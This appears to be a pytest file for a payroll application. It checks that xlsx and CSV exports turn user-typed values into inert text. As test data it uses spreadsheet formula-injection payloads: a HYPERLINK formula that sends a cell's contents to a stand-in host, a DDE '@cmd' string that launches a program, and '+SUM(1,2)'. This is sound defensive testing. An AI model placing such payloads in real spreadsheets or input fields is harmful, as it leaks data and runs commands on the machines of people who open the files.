"""Spreadsheet formula injection: every xlsx and CSV export writes what users typed as text
(rule 15). A worker, a station and a bank named like formulas go into every export; each
file is opened (openpyxl for xlsx) and no cell is a formula or starts with = + - @ tab or CR."""
from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal, InvalidOperation

from openpyxl import load_workbook

from app.extensions import db
from app.models import Worker
from app.services import org
from app.spreadsheet import as_text
from tests.wages_fixtures import close, issue_on, period_for, previous_month, return_on

HOSTILE = '=HYPERLINK("http://x/?"&F2,"张三")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_month(make):
    start, end = previous_month()
    station = org.create_station("+SUM(1,2)", "测试路 1 号")
    db.session.commit()
    order = make.order(station=station, product=make.product(piece_rate="0.0350"), quantity=5000)
    worker = make.worker(station=station, name=HOSTILE, bank_name="@cmd|' /C calc'!A0", bank_account="6216000012345678",
                         id_number=f"411000{start.year - 45}0101122X", birth_year=start.year - 45, gender="F")
    plain = make.worker(station=station, name="-2+3")
    for w in (worker, plain):
        return_on(issue_on(make, order, w, 100, start), start + timedelta(days=1), accepted=31)
    period = period_for(start, end)
    close(period)
    return start, end, period


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def _check_xlsx(data: bytes, name: str) -> list:
    wb = load_workbook(io.BytesIO(data))
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}: formula at {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), f"{name}: {cell.coordinate} {cell.value!r}"
                    seen.append(cell.value)
    return seen


def _check_csv(data: bytes, name: str) -> list:
    seen = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for value in row:
            assert not value.startswith(DANGEROUS) or _is_number(value), f"{name}: {value!r}"
            seen.append(value)
    return seen


def test_no_export_cell_is_a_formula_or_starts_like_one(client, make, login_as, api):
    start, end, period = _hostile_month(make)
    login_as("admin")
    rng = f"from={start.isoformat()}&to={end.isoformat()}"
    month = f"{start:%Y-%m}"
    pages = {
        "payroll.xlsx": f"/pay-periods/{period.id}/export.xlsx",
        "payroll.csv": f"/pay-periods/{period.id}/export.csv",
        "employment.xlsx": f"/reports/employment.xlsx?{rng}",
        "employment.csv": f"/reports/employment.csv?{rng}",
        "roster.xlsx": f"/reports/roster.xlsx?month={month}",
        "roster-full.xlsx": f"/reports/roster.xlsx?month={month}&full=1",
    }
    admin_api = api(role="admin")
    downloads = {name: client.get(url) for name, url in pages.items()}
    downloads["api payroll.xlsx"] = admin_api.get(f"/pay-periods/{period.id}/export.xlsx")
    downloads["api payroll.csv"] = admin_api.get(f"/pay-periods/{period.id}/export.csv")
    texts = {}
    for name, resp in downloads.items():
        assert resp.status_code == 200, name
        texts[name] = (_check_xlsx if name.endswith("xlsx") else _check_csv)(resp.data, name)
    # What was typed is still there, to be read: as text.
    assert "'" + HOSTILE in texts["payroll.xlsx"] and "'" + HOSTILE in texts["payroll.csv"]
    assert "'@cmd|' /C calc'!A0" in texts["api payroll.xlsx"]
    assert "'+SUM(1,2)" in texts["employment.xlsx"] and "'+SUM(1,2)" in texts["employment.csv"]
    assert "'" + HOSTILE in texts["roster.xlsx"] and "'-2+3" in texts["roster-full.xlsx"]
    assert db.session.query(Worker).count() == 2


def test_as_text_leaves_numbers_and_plain_text_alone():
    assert as_text(Decimal("-3.50")) == Decimal("-3.50") and as_text(-2) == -2
    assert as_text("王秀英") == "王秀英" and as_text("") == ""
    assert [as_text(v) for v in ("=1", "+1", "-1", "@A", "\t=1", "\r=1")] == ["'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1"]
